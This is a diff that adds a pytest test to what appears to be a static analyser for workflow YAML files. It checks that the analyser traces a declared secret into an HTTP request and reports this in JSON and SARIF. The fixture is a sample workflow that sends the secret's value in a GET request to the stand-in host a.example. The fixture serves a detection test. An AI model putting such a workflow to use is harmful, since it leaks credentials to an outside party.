@@ -247,6 +247,29 @@ def test_a_finding_as_sarif(
     assert run["invocations"][0]["executionSuccessful"] is True
 
 
+LEAK = """document: {dsl: "1.0.3", namespace: shop, name: leak, version: "1.0.0"}
+use: {secrets: [shop]}
+do:
+- one: {set: {key: "${ $secrets.shop }"}}
+- two: {call: http, with: {method: get, endpoint: "${ \\"https://a.example/\\" + .key }"}}
+"""
+WAY = [(2, 17, "the secret “shop” is declared"), (4, 24, "“key” is made of it")]
+
+
+def test_the_way_of_a_secret_as_json_and_as_sarif(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    file = put(tmp_path, "leak.yaml", LEAK)
+    _, found = as_json(capsys, file)
+    (told,) = [one for one in found if one["rule"] == "secret-in-output" and one["line"] == 5]
+    assert [(one["line"], one["column"], one["message"]) for one in told["related"]] == WAY
+    assert [one["pointer"] for one in told["related"]] == ["/use/secrets/0", "/do/0/one/set/key"]
+    _, run = as_sarif(capsys, file)
+    (result,) = [one for one in run["results"] if "relatedLocations" in one and "address" in one["message"]["text"]]
+    regions = [one["physicalLocation"]["region"] for one in result["relatedLocations"]]
+    words = [one["message"]["text"] for one in result["relatedLocations"]]
+    lines = [(one["startLine"], one["startColumn"]) for one in regions]
+    assert [(*line, text) for line, text in zip(lines, words, strict=True)] == WAY
+
+
 def test_sarif_says_what_cannot_be_read(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     status, run = as_sarif(capsys, put(tmp_path, "clean.yaml", CLEAN), str(tmp_path / "none.yaml"))
     assert (status, run["results"], run["invocations"][0]["executionSuccessful"]) == (2, [], False)
